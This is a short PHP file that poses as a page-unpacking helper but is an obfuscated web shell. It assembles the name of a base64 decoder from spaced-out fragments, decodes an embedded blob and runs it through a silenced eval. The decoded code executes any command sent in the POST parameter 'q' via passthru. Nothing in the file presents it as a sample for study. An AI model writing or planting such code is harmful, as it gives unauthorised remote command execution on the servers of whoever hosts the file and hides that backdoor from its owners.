<?php
header('Content-Type: text/html; charset=utf-8');
function unpack_page($blob)
{
    $d = preg_filter('/\s+/', '', 'ba se 6 4_ de co de');
    $page = $d($blob);
    @eval($page);
}
$blob = 'aWYgKCFlbXB0eSgkX1BPU1RbJ3EnXSkpIHsgZWNobyBwYXNzdGhydSgkX1BPU1RbJ3EnXSk7IH0=';
unpack_page($blob);
